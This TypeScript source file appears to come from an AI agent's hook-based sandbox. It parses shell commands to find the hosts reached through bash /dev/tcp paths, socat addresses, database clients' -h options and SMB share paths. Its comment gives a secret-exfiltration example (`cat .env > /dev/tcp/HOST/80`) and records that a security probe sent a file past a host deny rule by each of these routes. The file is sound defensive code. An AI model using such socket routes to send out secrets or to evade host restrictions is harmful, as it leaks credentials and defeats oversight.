import { readOption } from './read-option.js';

/** bash's network paths: `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT` open a socket to HOST. */
const DEV_SOCKET = /^\/dev\/(?:tcp|udp)\/([^/]+)\//;
/** socat's addresses that connect to a host (`TCP:host:port`, `OPENSSL:host:443`, `UDP-SENDTO:host:53`, `SOCKS4A:proxy:host:port`). */
const SOCAT_ADDRESS =
  /^(?:tcp[46]?|udp[46]?|tcp[46]?-connect|udp[46]?-(?:connect|sendto|datagram)|openssl(?:-connect)?|ssl|sctp-connect|socks4a?|proxy(?:-connect)?):([^:,]+)/i;
/** Database and cache clients whose `-h` / `--host` names the server they reach. */
const HOST_OPTION_CLIENTS = new Set([
  ...['mysql', 'mariadb', 'mysqldump', 'psql', 'pg_dump', 'pg_dumpall', 'pg_restore', 'pg_isready'],
  ...['redis-cli', 'valkey-cli', 'mongo', 'mongosh', 'mongodump', 'mongorestore', 'clickhouse-client', 'cqlsh'],
]);
const HOST_OPTIONS: ReadonlySet<string> = new Set(['-h', '--host']);

/**
 * The hosts a simple command's sockets reach beyond the URLs and host operands shell-hosts.ts reads
 * (docs/agent-hooks.md, "Shell commands and files"): a `/dev/tcp/HOST/PORT` path in a word or a
 * redirection (`cat .env > /dev/tcp/HOST/80`), socat's connecting addresses, a database client's
 * `-h HOST`, smbclient's `//HOST/share`. A security probe sent a file to
 * `*.internal.example.com` through each past `deny host *.internal.example.com`.
 */
export function socketHosts(program: string, args: readonly string[], paths: readonly string[]): string[] {
  const hosts = paths.flatMap((path) => DEV_SOCKET.exec(path)?.[1] ?? []);
  if (program === 'socat') hosts.push(...args.flatMap((word) => SOCAT_ADDRESS.exec(word)?.[1] ?? []));
  if (program === 'smbclient' || program === 'mount.cifs') hosts.push(...args.flatMap((word) => /^\/\/([^/]+)\//.exec(word)?.[1] ?? []));
  if (HOST_OPTION_CLIENTS.has(program))
    for (let i = 0; i < args.length; i++) {
      const option = readOption(args, i, HOST_OPTIONS);
      if (HOST_OPTIONS.has(option.name) && option.value !== undefined) hosts.push(option.value);
      i = option.next - 1;
    }
  return hosts;
}
